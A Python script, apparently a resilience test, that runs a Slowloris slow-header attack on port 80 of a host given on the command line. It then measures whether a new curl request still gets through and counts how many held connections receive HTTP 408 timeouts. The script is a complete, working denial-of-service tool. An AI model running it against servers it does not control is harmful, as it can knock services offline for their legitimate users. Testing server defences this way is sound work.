# Slowloris against an HTTP server, then a new client: N connections each send a request line and then one header
# line a second, never ending the head; after the first trickle a curl asks for the page and is timed; then each
# slow connection's answer is read until the deadline. Prints "curl STATUS SECONDS" and "slow N408 OF_N SECONDS".
# Usage: python3 slowloris.py HOST N DEADLINE_SECONDS
import socket
import subprocess
import sys
import time

host, n, deadline = sys.argv[1], int(sys.argv[2]), float(sys.argv[3])
slow = []
for _ in range(n):
    s = socket.create_connection((host, 80), timeout=10)
    s.sendall(b"GET /hello.txt HTTP/1.1\r\nHost: x\r\n")
    slow.append(s)
start = time.time()
time.sleep(1)
for s in slow:
    s.sendall(b"X-Slow: still here\r\n")
t = time.time()
curl = subprocess.run(["curl", "-sS", "-o", "/dev/null", "-w", "%{http_code}", "--max-time", "10",
                       "http://%s/hello.txt" % host], capture_output=True, text=True)
print("curl %s %.3f" % (curl.stdout.strip() or curl.stderr.strip(), time.time() - t), flush=True)
answers = {}
for s in slow:
    s.setblocking(False)
next_line = time.time() + 1
while len(answers) < n and time.time() - start < deadline:
    for i, s in enumerate(slow):
        if i in answers:
            continue
        try:
            data = s.recv(4096)
            answers[i] = data[:12].decode("ascii", "replace") if data else "closed"
        except BlockingIOError:
            pass
        except OSError as ex:
            answers[i] = "error " + str(ex)
    if time.time() >= next_line:
        next_line += 1
        for i, s in enumerate(slow):
            if i not in answers:
                try:
                    s.sendall(b"X-Slow: still here\r\n")
                except OSError:
                    pass
    time.sleep(0.05)
got408 = sum(1 for a in answers.values() if a.startswith("HTTP/1.1 408"))
print("slow %d %d %.1f" % (got408, n, time.time() - start), flush=True)
for s in slow:
    s.close()
